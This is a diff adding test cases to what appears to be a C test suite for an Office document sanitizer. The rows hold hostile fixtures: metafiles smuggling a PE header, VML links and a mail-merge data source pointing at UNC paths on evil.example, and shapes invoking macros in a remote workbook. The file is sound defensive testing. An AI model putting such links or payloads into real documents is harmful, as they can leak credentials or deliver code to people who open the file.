@@ -121,6 +121,15 @@ static bool any_contains(GHashTable *h, const char *needle, bool names)
 /* a 2x2 RGB PNG */
 #define PNG_B64 "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg=="
 
+/* EMF: header, EMR_COMMENT holding a PE, EMR_SETBKMODE, EMR_EOF; the same
+ * with an unknown record (type 200); WMF: placeable header, META_ESCAPE
+ * holding a PE, META_SETBKMODE, META_EOF */
+#define EMF_CT "<Override PartName=\"/word/media/image1.png\" ContentType=\"image/x-emf\"/>"
+#define EMF_PE_B64 "AQAAAFgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABkAAAAZAAAACBFTUYAAAEAuAAAAAQAAAABAAAAAAAAAAAAAAAAAAAAAAQAAAADAABAAQAA8AAAAEYAAABAAAAANAAAAE1akAAgVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJFBFAAASAAAADAAAAAEAAAAOAAAAFAAAAAAAAAAQAAAAFAAAAA=="
+#define EMF_BAD_B64 "AQAAAFgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABkAAAAZAAAACBFTUYAAAEAhAAAAAQAAAABAAAAAAAAAAAAAAAAAAAAAAQAAAADAABAAQAA8AAAABIAAAAMAAAAAQAAAMgAAAAMAAAAYWJjZA4AAAAUAAAAAAAAABAAAAAUAAAA"
+#define WMF_PE_B64 "183GmgAAAAAAAGQAZACgBQAAAACxUgEACQAAAy8AAAAAAB8AAAAAAB8AAAAmBg8ANABNWpAAIFRoaXMgcHJvZ3JhbSBjYW5ub3QgYmUgcnVuIGluIERPUyBtb2RlLg0NCiRQRQAABAAAAAIBAQADAAAAAAA="
+#define VML_NS "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\""
+
 static const struct row {
 	const char *name;
 	const char *main_ct;        /* NULL = docx */
@@ -232,6 +241,39 @@ static const struct row {
 	  IMG_REL, NULL, BLIP_BODY,
 	  { { "word/media/image1.png", "PK\x03\x04 zip" } },
 	  { "image1.png", "rid7" }, "txt", "cannot check", 0 },
+	/* metafiles are rebuilt from their records: a PE in an EMR_COMMENT /
+	 * META_ESCAPE went out byte-exact (header checked only); an unknown
+	 * record drops the picture */
+	{ "media-emf-comment", NULL, EMF_CT, IMG_REL, NULL, BLIP_BODY,
+	  { { "word/media/image1.png", "b64:" EMF_PE_B64 } },
+	  { "cannot be run" }, "r:embed=\"rId7\"", "metafile comment", 0 },
+	{ "media-wmf-escape", NULL,
+	  "<Override PartName=\"/word/media/image1.png\" ContentType=\"image/x-wmf\"/>",
+	  IMG_REL, NULL, BLIP_BODY,
+	  { { "word/media/image1.png", "b64:" WMF_PE_B64 } },
+	  { "cannot be run" }, "r:embed=\"rId7\"", "metafile comment", 0 },
+	{ "media-emf-unknown-record", NULL, EMF_CT, IMG_REL, NULL, BLIP_BODY,
+	  { { "word/media/image1.png", "b64:" EMF_BAD_B64 } },
+	  { "image1.png", "rid7" }, "txt", "not a metafile", 0 },
+	/* links outside the package in VML attributes, and a mail merge
+	 * data source in settings */
+	{ "vml-shape-href", NULL, NULL, NULL, NULL,
+	  "<w:p><w:r><w:pict><v:rect " VML_NS " href=\"file:///\\\\evil.example\\s\\x.exe\" o:button=\"t\"><v:textbox><w:txbxContent><w:p><w:r><w:t>Click</w:t></w:r></w:p></w:txbxContent></v:textbox></v:rect></w:pict></w:r></w:p>",
+	  { { NULL } }, { "evil.example", "href" }, "Click", "link/macro", 0 },
+	{ "vml-imagedata-src", NULL, NULL, NULL, NULL,
+	  "<w:p><w:r><w:pict><v:shape " VML_NS "><v:imagedata src=\"\\\\evil.example\\s\\x.png\" o:href=\"file://evil.example/x.png\" o:title=\"\"/><v:fill o:althref=\"//evil.example/f\"/></v:shape></w:pict></w:r></w:p>",
+	  { { NULL } }, { "evil.example", "href" }, "v:imagedata", "link/macro", 0 },
+	{ "hlink-action-macro", NULL, NULL, NULL, NULL,
+	  "<w:p><w:r><w:drawing><a:hlinkClick xmlns:a=\"urn:a\" r:id=\"\" action=\"ppaction://macro?name=Evil\"/><a:hlinkClick xmlns:a=\"urn:a\" r:id=\"\" action=\"ppaction://hlinksldjump\"/></w:drawing></w:r></w:p>",
+	  { { NULL } }, { "ppaction://macro" }, "ppaction://hlinksldjump", "link/macro", 0 },
+	{ "mailmerge", NULL,
+	  "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
+	  "<Relationship Id=\"rId3\" Type=\"" R_NS "/settings\" Target=\"settings.xml\"/>",
+	  NULL, "<w:p/>",
+	  { { "word/settings.xml", "<w:settings xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\"><w:zoom w:percent=\"100\"/><w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:linkToQuery/><w:dataType w:val=\"native\"/>"
+	      "<w:connectString w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\x.xlsx;\"/><w:query w:val=\"SELECT * FROM x\"/><w:dataSource r:id=\"rId1\"/></w:mailMerge></w:settings>" },
+	    { "word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" R_NS "/mailMergeSource\" Target=\"file:///\\\\evil.example\\s\\x.xlsx\" TargetMode=\"External\"/></Relationships>" } },
+	  { "evil.example", "mailmerge", "select" }, "w:zoom", "<mailMerge> element", 0 },
 	{ "customui", NULL,
 	  "<Override PartName=\"/customUI/customUI.xml\" ContentType=\"application/xml\"/>",
 	  NULL, "<Relationship Id=\"rIdU\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility\" Target=\"customUI/customUI.xml\"/>",
@@ -442,6 +484,14 @@ static const struct xrow {
 	{ "cf-rule", NULL, NULL, NULL, "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>",
 	  "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>LEN(_xlfn.IMAGE(\"http://evil.example/a.png\"))&gt;0</formula></cfRule></conditionalFormatting>",
 	  { { NULL } }, { "evil.example", "conditionalformatting" }, "<v>1</v>", "formula" },
+	/* a shape or form control that names a macro (in another workbook) */
+	{ "shape-macro",
+	  "<Override PartName=\"/xl/drawings/drawing1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.drawing+xml\"/>"
+	  "<Override PartName=\"/xl/drawings/vmlDrawing1.vml\" ContentType=\"application/vnd.openxmlformats-officedocument.vmlDrawing\"/>",
+	  NULL, NULL, NULL, NULL,
+	  { { "xl/drawings/drawing1.xml", "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\"><xdr:sp macro=\"'\\\\evil.example\\s\\x.xlsm'!Module1.Run\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"Button\"/></xdr:nvSpPr></xdr:sp></xdr:wsDr>" },
+	    { "xl/drawings/vmlDrawing1.vml", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:FmlaLink>[1]Sheet1!A1</x:FmlaLink><x:TextHAlign>Center</x:TextHAlign></x:ClientData></v:shape></xml>" } },
+	  { "evil.example", "fmla", "macro=" }, "x:TextHAlign", "link/macro" },
 	/* harmless formulas stay, also with a denied name inside a string */
 	{ "safe-formula", NULL, NULL,
 	  "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">Sheet1!$A$1:$B$2</definedName></definedNames>",
